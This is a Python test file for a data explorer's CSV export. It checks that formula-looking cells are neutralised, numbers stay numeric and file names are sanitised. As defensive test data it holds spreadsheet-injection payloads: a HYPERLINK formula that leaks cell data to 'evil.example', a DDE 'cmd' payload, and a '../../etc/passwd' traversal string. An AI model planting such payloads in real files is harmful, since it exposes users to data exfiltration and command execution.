"""CSV downloads: exactly the table, a source line first, formula-looking text neutralised, numbers kept numbers."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from igf_explorer.exports import FILE_PREFIX, file_stem, neutralise, safe_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
    "  =1+1",
    "\t=1+1",
    "\rx",
    "＝1+1",
]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_looking_text_is_prefixed_with_a_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Pakistan", "Côte d'Ivoire", "-3.5", "42", "1e-3", "", "a=b", "Partly Free"])
def test_ordinary_text_and_plain_numbers_as_text_are_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell


def test_safe_csv_writes_exactly_the_table_after_a_source_line() -> None:
    frame = pd.DataFrame({"Country": ["Iceland", "Canada"], "FOTN total": [94, 87], "Status": ["Free", "Free"]})
    text = safe_csv(frame, "Freedom House: Freedom on the Net")
    lines = text.splitlines()
    assert lines[0] == "# Source: Freedom House: Freedom on the Net"
    back = pd.read_csv(io.StringIO(text), skiprows=1)
    pd.testing.assert_frame_equal(back, frame)
    assert pd.read_csv(io.StringIO(text), comment="#").shape == frame.shape


def test_hostile_cells_are_neutralised_and_negative_numbers_stay_numbers() -> None:
    frame = pd.DataFrame(
        {
            "Country": HOSTILE,
            "Change": [-3.5, -1.0, 0.0, 2.25, -10.0, 1.0, 3.0, -0.5],
            "Count": [-3, 0, 1, 2, 3, 4, 5, 6],
        }
    )
    text = safe_csv(frame, "World Bank, WDI; Access Now")
    rows = rows_of(text)
    assert rows[0] == ["# Source: World Bank, WDI; Access Now"]  # one cell, even with a comma in it
    assert rows[1] == ["Country", "Change", "Count"]
    assert [r[0] for r in rows[2:]] == ["'" + cell for cell in HOSTILE]
    assert rows[2][1] == "-3.5" and rows[2][2] == "-3"
    back = pd.read_csv(io.StringIO(text), skiprows=1)
    assert back["Change"].dtype == float and back["Change"].iloc[0] == -3.5
    assert back["Count"].dtype == int and back["Count"].iloc[0] == -3
    # No text cell starts a formula once leading whitespace is dropped, except after the protective quote.
    for row in rows[2:]:
        assert not row[0].lstrip().startswith(("=", "+", "-", "@"))


def test_text_columns_mixing_numbers_and_text_only_touch_the_text() -> None:
    frame = pd.DataFrame({"Value": [-3.5, "-2+3", "12", "=A1"]}, dtype=object)
    rows = rows_of(safe_csv(frame, "test"))
    assert [r[0] for r in rows[2:]] == ["-3.5", "'-2+3", "12", "'=A1"]


def test_headers_from_data_are_neutralised_too() -> None:
    frame = pd.DataFrame({"=cmd()": [1], "Country": ["Chile"]})
    rows = rows_of(safe_csv(frame, "test"))
    assert rows[1] == ["'=cmd()", "Country"]


def test_the_source_line_stays_one_line() -> None:
    text = safe_csv(pd.DataFrame({"a": [1]}), "Freedom House\n=evil()\r\nsecond line")
    assert text.splitlines()[0] == "# Source: Freedom House =evil() second line"
    assert len(text.splitlines()) == 3


def test_categorical_and_string_dtypes_are_text() -> None:
    frame = pd.DataFrame({"Status": pd.Categorical(["=1", "Free"]), "Note": pd.array(["@x", None], dtype="string")})
    rows = rows_of(safe_csv(frame, "test"))
    assert rows[2] == ["'=1", "'@x"] and rows[3] == ["Free", ""]


def test_an_empty_table_keeps_its_header() -> None:
    text = safe_csv(pd.DataFrame(columns=["Country", "Value"]), "none")
    assert text == "# Source: none\r\nCountry,Value\r\n"


def test_line_breaks_inside_a_cell_never_split_the_row() -> None:
    frame = pd.DataFrame({"Note": ["first\rsecond", "one\nтwo", "plain"], "Value": [1, 2, 3]})
    rows = rows_of(safe_csv(frame, "test"))
    assert len(rows) == 5 and [r[0] for r in rows[2:]] == ["first\rsecond", "one\nтwo", "plain"]


def test_a_views_table_with_a_formula_looking_country_downloads_safely() -> None:
    # The Map's table as the view builds it (Country, value text, Status, Period), one name planted by a data file.
    frame = pd.DataFrame(
        {
            "Country": ["Iceland", '=HYPERLINK("http://evil.example","x")', "-Chad"],
            "FOTN total": ["94", "87", "-3.5"],
            "Status": ["Free", "@Free", "Not Free"],
            "Period": [2019, 2019, 2019],
        }
    )
    text = safe_csv(frame, "Freedom House: Freedom on the Net · licence: see sidecar")
    rows = rows_of(text)
    assert rows[0] == ["# Source: Freedom House: Freedom on the Net · licence: see sidecar"]
    assert rows[1] == list(frame.columns)
    assert [r[0] for r in rows[2:]] == ["Iceland", '\'=HYPERLINK("http://evil.example","x")', "'-Chad"]
    assert [r[1] for r in rows[2:]] == ["94", "87", "-3.5"]  # numbers written as text stay numbers
    assert rows[3][2] == "'@Free" and rows[2][3] == "2019"
    assert text.endswith("\r\n") and len(rows) == 2 + len(frame)


def test_a_multi_line_source_stays_one_line() -> None:
    text = safe_csv(pd.DataFrame({"a": [1]}), "World Bank\nWDI\r\n=cmd")
    assert text.split("\r\n")[0] == "# Source: World Bank WDI =cmd"


@pytest.mark.parametrize(
    ("parts", "expected"),
    [
        (("map", "fotn_total", 2019, None), f"{FILE_PREFIX}-map-fotn_total-2019"),
        (("map", "internet_users", 2023, "eastern-africa"), f"{FILE_PREFIX}-map-internet_users-2023-eastern-africa"),
        (("country.panel.0.PAK", "Freedom on the Net"), f"{FILE_PREFIX}-country-panel-0-pak-freedom-on-the-net"),
        (("../../etc/passwd", ""), f"{FILE_PREFIX}-etc-passwd"),
        (("Côte d'Ivoire",), f"{FILE_PREFIX}-c-te-d-ivoire"),
    ],
)
def test_file_stems_name_the_view_and_are_safe(parts: tuple[str | int | None, ...], expected: str) -> None:
    assert file_stem(*parts) == expected
